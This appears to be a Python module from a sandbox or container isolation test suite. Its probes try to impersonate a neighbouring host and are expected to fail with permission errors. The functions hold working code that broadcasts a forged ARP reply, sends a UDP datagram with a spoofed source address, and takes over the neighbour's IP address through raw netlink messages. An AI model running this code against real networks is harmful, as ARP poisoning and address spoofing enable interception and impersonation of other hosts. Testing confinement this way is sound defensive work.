"""Attempts to send packets in the name of others."""

import socket
import struct

from .attempts import attempt
from .targets import Target

_IP_TRANSPARENT = 19
_ARP_REPLY = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
_BROADCAST = b"\xff" * 6
_OWN = bytes.fromhex("020000000001")


def _interface() -> str:
    return next(name for _, name in socket.if_nameindex() if name != "lo")


@attempt("EPERM", "EAFNOSUPPORT", weakness="root")
def announce_neighbour_by_arp(target: Target) -> str:
    """Tell the network that the neighbour's address is here."""
    address = socket.inet_aton(target.places["neighbour"][0][0])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        sender.bind((_interface(), 0))
        frame = _BROADCAST + _OWN + b"\x08\x06" + _ARP_REPLY + _OWN + address + _BROADCAST + address
        sender.send(frame)
    return "announced the neighbour's address"


@attempt("EPERM", weakness="root")
def send_in_the_name_of_neighbour(target: Target) -> str:
    """Send a datagram that claims to come from the neighbour, with the option made for proxies."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, _IP_TRANSPARENT, 1)
        sender.bind((target.places["neighbour"][0][0], 0))
        sender.sendto(b"spoofed", target.places["internet"][0])
    return "sent a datagram in the neighbour's name"


@attempt("EPERM", weakness="root")
def take_another_address(target: Target) -> str:
    """Give one's interface the neighbour's address through the route socket, and take it away."""
    index = socket.if_nametoindex(_interface())
    address = socket.inet_aton(target.places["neighbour"][0][0])
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        _change_address(route, 20, index, address)
        _change_address(route, 21, index, address)
    return "took the neighbour's address"


def _change_address(route: socket.socket, request: int, index: int, address: bytes) -> None:
    attributes = struct.pack("HH", 8, 2) + address + struct.pack("HH", 8, 1) + address
    body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, index) + attributes
    # NLM_F_REQUEST, NLM_F_ACK and NLM_F_CREATE: the answer is an errno, negative, at byte 16.
    route.send(struct.pack("IHHII", 16 + len(body), request, 0x405, 1, 0) + body)
    (code,) = struct.unpack_from("i", route.recv(4096), 16)
    if code:
        raise OSError(-code, "address not changed")
